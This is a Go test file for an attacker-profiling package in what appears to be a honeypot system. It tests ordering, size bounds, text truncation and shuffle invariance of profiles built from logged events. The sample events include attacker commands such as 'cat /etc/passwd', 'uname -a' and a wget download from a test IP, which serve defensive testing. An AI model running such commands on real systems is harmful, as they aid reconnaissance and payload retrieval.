package profile_test

import (
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"decnet/profile"
	"decnet/repo"
)

func TestAttacker_NeverSeenHasListsThatAreNotNil(t *testing.T) {
	t.Parallel()
	a := profile.New().Attacker()
	assert.NotNil(t, a.Services)
	assert.NotNil(t, a.Deckies)
	assert.NotNil(t, a.Fingerprints)
	assert.NotNil(t, a.Commands)
	assert.NotNil(t, a.Behavior.Tools)
	assert.True(t, a.FirstSeen.IsZero())
	assert.True(t, a.LastSeen.IsZero())
	assert.Equal(t, profile.ClassUnknown, a.Behavior.Class)
	assert.Nil(t, a.Behavior.Timing.Mean)
}

func TestAdd_CountsAndNames(t *testing.T) {
	t.Parallel()
	events := []repo.Event{at(0, "ssh"), at(time.Second, "http"), at(2*time.Second, "ssh")}
	events[0].Decky = "b"
	events[1].Decky = "a"
	events[2].Decky = "b"
	a := fold(events...).Attacker()
	assert.Equal(t, int64(3), a.EventCount)
	assert.Equal(t, []string{"http", "ssh"}, a.Services)
	assert.Equal(t, []string{"b", "a"}, a.Deckies, "order of first contact")
	assert.True(t, a.IsTraversal())
	assert.Equal(t, start(), a.FirstSeen)
	assert.Equal(t, start().Add(2*time.Second), a.LastSeen)
	assert.Equal(t, time.UTC, a.LastSeen.Location())
	assert.InDelta(t, 2.0, a.Behavior.Timing.Duration, 0)
	assert.Equal(t, int64(3), a.Behavior.Timing.EventCount)
}

func TestAdd_DeckyOrderGoesByEventTimeNotArrival(t *testing.T) {
	t.Parallel()
	visit := func(decky string, after time.Duration) repo.Event {
		e := at(after, "ssh")
		e.Decky = decky
		return e
	}
	a := fold(
		visit("late", 9*time.Second), visit("z-tie", 5*time.Second), visit("a-tie", 5*time.Second),
		visit("late", 20*time.Second), visit("first", 0), visit("late", 4*time.Second),
	).Attacker()
	assert.Equal(t, []string{"first", "late", "a-tie", "z-tie"}, a.Deckies)
}

func TestAdd_AnEventWithoutServiceOrDeckyNamesNone(t *testing.T) {
	t.Parallel()
	e := at(0, "")
	e.Decky = ""
	a := fold(e).Attacker()
	assert.Empty(t, a.Services)
	assert.Empty(t, a.Deckies)
	assert.Equal(t, int64(1), a.EventCount)
}

func TestAdd_CommandsAreTheLatestByTime(t *testing.T) {
	t.Parallel()
	const n = repo.RecentCommands + 20
	events := make([]repo.Event, n)
	for i := range events {
		events[i] = at(time.Duration(i)*time.Second, "ssh")
		events[i].Command = fmt.Sprintf("echo %d", i)
	}
	rand.New(rand.NewPCG(1, 2)).Shuffle(n, func(i, j int) { events[i], events[j] = events[j], events[i] })
	got := fold(events...).Attacker().Commands
	require.Len(t, got, repo.RecentCommands)
	for i, c := range got {
		k := n - repo.RecentCommands + i
		assert.Equal(t, repo.Command{
			Time: start().Add(time.Duration(k) * time.Second), Service: "ssh", Decky: "decky-01",
			Text: fmt.Sprintf("echo %d", k),
		}, c)
	}
}

func TestAdd_CommandsOfOneInstantStayInTheOrderOfArrival(t *testing.T) {
	t.Parallel()
	var events []repo.Event
	for _, text := range []string{"uname -a", "id", "cat /etc/passwd"} {
		e := at(0, "ssh")
		e.Command = text
		events = append(events, e)
	}
	got := fold(events...).Attacker().Commands
	require.Len(t, got, 3)
	assert.Equal(t, "uname -a", got[0].Text)
	assert.Equal(t, "id", got[1].Text)
	assert.Equal(t, "cat /etc/passwd", got[2].Text)
}

func TestAddBounty_CountsAndFingerprints(t *testing.T) {
	t.Parallel()
	s := profile.New()
	add := func(kind, payload string, after time.Duration) {
		s.AddBounty(&repo.Bounty{Type: kind, Payload: payload, Time: start().Add(after)})
	}
	add(repo.BountyCredential, `{"password":"p","username":"u"}`, 0)
	add(repo.BountyPayload, `{"sha256":"00"}`, 0)
	for i := range repo.MaxFingerprints + 5 {
		add(repo.BountyFingerprint, fmt.Sprintf(`{"n":%d}`, i), -time.Duration(i)*time.Second)
	}
	a := stored(t, s).Attacker()
	assert.Equal(t, int64(repo.MaxFingerprints+7), a.BountyCount)
	assert.Equal(t, int64(1), a.CredentialCount)
	require.Len(t, a.Fingerprints, repo.MaxFingerprints)
	assert.JSONEq(t, `{"n":49}`, string(a.Fingerprints[0]), "oldest of the latest first")
	assert.JSONEq(t, `{"n":0}`, string(a.Fingerprints[repo.MaxFingerprints-1]))
}

func TestAdd_KeepsBytesThatAreNotText(t *testing.T) {
	t.Parallel()
	e := at(0, "s\xffh")
	e.Decky = "d\x00\x1b[31m"
	e.Command = "\xde\xad\x00\xbe\xef"
	a := stored(t, fold(e)).Attacker()
	assert.Equal(t, []string{"s\xffh"}, a.Services)
	assert.Equal(t, []string{"d\x00\x1b[31m"}, a.Deckies)
	require.Len(t, a.Commands, 1)
	assert.Equal(t, e.Command, a.Commands[0].Text)
}

func TestAdd_LongCommandIsCutBetweenCharacters(t *testing.T) {
	t.Parallel()
	e := at(0, "ssh")
	e.Command = "x" + strings.Repeat("é", profile.MaxCommandText)
	a := fold(e).Attacker()
	require.Len(t, a.Commands, 1)
	text := a.Commands[0].Text
	assert.Len(t, text, profile.MaxCommandText-1)
	assert.True(t, utf8.ValidString(text))
	assert.True(t, strings.HasPrefix(e.Command, text))
}

// TestAdd_TextIsCutWhereACharacterEnds, whatever its length, and text that is
// none at the bound.
func TestAdd_TextIsCutWhereACharacterEnds(t *testing.T) {
	t.Parallel()
	a := func(n int) string { return strings.Repeat("a", n) }
	for text, want := range map[string]string{
		a(62) + "é":                a(62) + "é",
		a(63) + "é":                a(63),
		a(61) + "日":                a(61) + "日",
		a(62) + "日":                a(62),
		a(63) + "日":                a(63),
		a(60) + "😀" + "b":          a(60) + "😀",
		a(61) + "😀":                a(61),
		a(62) + "😀":                a(62),
		a(63) + "😀":                a(63),
		strings.Repeat("\xff", 70): strings.Repeat("\xff", 64),
		strings.Repeat("\x80", 70): strings.Repeat("\x80", 61),
	} {
		e := at(0, "sniffer")
		e.Traits.OSGuess = text
		assert.Equal(t, want, fold(e).Attacker().Behavior.OSGuess, "%q", text)
	}
}

// TestAdd_CommandsHaveABoundTogether, in which names count: what fits is kept, and
// of a byte too many the oldest go.
func TestAdd_CommandsHaveABoundTogether(t *testing.T) {
	t.Parallel()
	const n = 16 // of 4 KiB each
	commands := func(last int) []repo.Command {
		s := profile.New()
		for i := range n {
			e := at(time.Duration(i)*time.Second, "ssh")
			e.Decky = "decky-1"
			size := profile.MaxCommandBytes/n - len("ssh") - len("decky-1")
			if i == n-1 {
				size += last
			}
			e.Command = strings.Repeat("x", size)
			s.Add(&e)
		}
		return stored(t, s).Attacker().Commands
	}
	assert.Len(t, commands(0), n)
	assert.Len(t, commands(1), n-1)
}

func TestAddBounty_AFingerprintThatIsTooLargeStaysOut(t *testing.T) {
	t.Parallel()
	s := profile.New()
	for _, size := range []int{profile.MaxFingerprintSize - 1, profile.MaxFingerprintSize} {
		s.AddBounty(&repo.Bounty{Type: repo.BountyFingerprint, Time: start(), Payload: `"` + strings.Repeat("x", size-2) + `"`})
	}
	s.AddBounty(&repo.Bounty{Type: repo.BountyFingerprint, Time: start()})
	a := stored(t, s).Attacker()
	assert.Equal(t, int64(3), a.BountyCount)
	require.Len(t, a.Fingerprints, 1, "neither the one of 8 KiB nor the one without a payload")
	assert.Len(t, a.Fingerprints[0], profile.MaxFingerprintSize-1)
}

// TestAdd_ACommandOfTheOldestInstantTakesItsPlace: what came last counts.
func TestAdd_ACommandOfTheOldestInstantTakesItsPlace(t *testing.T) {
	t.Parallel()
	s := profile.New()
	add := func(after time.Duration, text string) {
		e := at(after, "ssh")
		e.Command = text
		s.Add(&e)
	}
	for i := range repo.RecentCommands {
		add(time.Duration(i)*time.Second, fmt.Sprint(i))
	}
	add(-time.Second, "too old")
	assert.Equal(t, "0", s.Attacker().Commands[0].Text)
	add(0, "as old")
	got := s.Attacker().Commands
	require.Len(t, got, repo.RecentCommands)
	assert.Equal(t, "as old", got[0].Text)
	assert.Equal(t, "1", got[1].Text)
}

// TestAdd_HostileSizesStayBounded floods every list with the largest values.
func TestAdd_HostileSizesStayBounded(t *testing.T) {
	t.Parallel()
	big := strings.Repeat("A", 64<<10)
	s := profile.New()
	rng := rand.New(rand.NewPCG(3, 4))
	for i := range 600 {
		unique := fmt.Sprintf("%08d", i)
		hops := int64(i)
		e := repo.Event{
			Log: repo.Log{
				Time:  time.Unix(0, rng.Int64N(repo.MaxUnixNano)),
				Decky: unique + big, Service: unique + big, EventType: big,
			},
			Command: unique + big,
			Traits: repo.Traits{
				UserAgent: unique + big, Mailer: big, OSGuess: unique + big, TTL: i, HopDistance: &hops,
				TCPFingerprint: `"` + big + `"`, Retransmits: 1 << 62, PayloadBytes: 1 << 62,
			},
		}
		s.Add(&e)
		s.AddBounty(&repo.Bounty{Type: repo.BountyFingerprint, Time: e.Time, Payload: `"` + unique + big[:8000] + `"`})
	}
	b := s.Marshal()
	// Names 2 × 256 × 255, commands and fingerprints 64 KiB each, the rest small.
	assert.Less(t, len(b), 300<<10)

	a := stored(t, s).Attacker()
	assert.Equal(t, int64(600), a.EventCount, "the count stays exact")
	assert.Len(t, a.Services, profile.MaxServices)
	assert.Len(t, a.Deckies, profile.MaxDeckies)
	assert.NotEmpty(t, a.Commands)
	assert.NotEmpty(t, a.Fingerprints)
	assert.Positive(t, a.Behavior.RetransmitCount, "sums stay at the highest value, they don't wrap around")
}

func TestAdd_OfTooManyDeckiesTheEarliestContactsStay(t *testing.T) {
	t.Parallel()
	const n = profile.MaxDeckies + 50
	s := profile.New()
	for _, i := range rand.New(rand.NewPCG(5, 6)).Perm(n) {
		e := at(time.Duration(i)*time.Second, "ssh")
		e.Decky = fmt.Sprintf("decky-%d", i)
		s.Add(&e)
	}
	got := s.Attacker().Deckies
	require.Len(t, got, profile.MaxDeckies)
	for i, name := range got {
		require.Equal(t, fmt.Sprintf("decky-%d", i), name)
	}
}

func TestAdd_TimesThatNoEventCanHaveDoNotBreakTheProfile(t *testing.T) {
	t.Parallel()
	s := profile.New()
	for _, when := range []time.Time{{}, time.Date(9999, 1, 1, 0, 0, 0, 0, time.UTC), start()} {
		e := at(0, "ssh")
		e.Time = when
		s.Add(&e)
	}
	a := stored(t, s).Attacker()
	assert.True(t, repo.ValidTime(a.FirstSeen))
	assert.True(t, repo.ValidTime(a.LastSeen))
	assert.False(t, a.LastSeen.Before(a.FirstSeen))
}

// TestAdd_ShuffledEventsGiveTheSameProfile: up to the reach of the chain all of
// it, beyond it whatever is not timing.
func TestAdd_ShuffledEventsGiveTheSameProfile(t *testing.T) {
	t.Parallel()
	for _, n := range []int{1, 2, 7, profile.MaxChain, 1000} {
		t.Run(fmt.Sprint(n), func(t *testing.T) {
			t.Parallel()
			rng := rand.New(rand.NewPCG(7, uint64(n)))
			events := mixedEvents(rng, n)
			want := fold(events...).Attacker()
			for range 20 {
				rng.Shuffle(n, func(i, j int) { events[i], events[j] = events[j], events[i] })
				got := fold(events...).Attacker()
				if n > profile.MaxChain {
					got.Behavior.Timing, want.Behavior.Timing = repo.Timing{}, repo.Timing{}
					got.Behavior.Class, want.Behavior.Class = "", ""
					got.Behavior.Phases.ReconEnd, want.Behavior.Phases.ReconEnd = time.Time{}, time.Time{}
					got.Behavior.Phases.ExfilLatency, want.Behavior.Phases.ExfilLatency = nil, nil
				}
				require.Equal(t, want, got)
			}
		})
	}
}

// mixedEvents are n events at different times with all sorts of content.
func mixedEvents(rng *rand.Rand, n int) []repo.Event {
	events := make([]repo.Event, n)
	var t time.Duration
	for i := range events {
		t += time.Duration(1 + rng.Int64N(int64(30*time.Second)))
		e := at(t, []string{"ssh", "http", "redis", "smb"}[rng.IntN(4)])
		e.Decky = fmt.Sprintf("decky-%02d", rng.IntN(12))
		switch rng.IntN(8) {
		case 0:
			e.Command = fmt.Sprintf("wget http://198.51.100.9/%d", rng.IntN(1000))
		case 1:
			e.Traits.UserAgent = []string{"curl/8.0", "sqlmap/1.7", "Mozilla/5.0"}[rng.IntN(3)]
		case 2:
			hops := int64(rng.IntN(20))
			e.Traits.HopDistance = &hops
			e.Traits.TTL = 40 + rng.IntN(200)
			e.Traits.OSGuess = []string{"", "linux", "windows", "unknown"}[rng.IntN(4)]
			e.Traits.TCPFingerprint = fmt.Sprintf(`{"window":%d}`, rng.IntN(65536))
			e.Traits.Retransmits = rng.Int64N(5)
		case 3:
			if i > n/2 {
				e.EventType = "cowrie.session.file_download"
				e.Traits.PayloadBytes = rng.Int64N(4 << 20)
			}
		}
		events[i] = e
	}
	return events
}
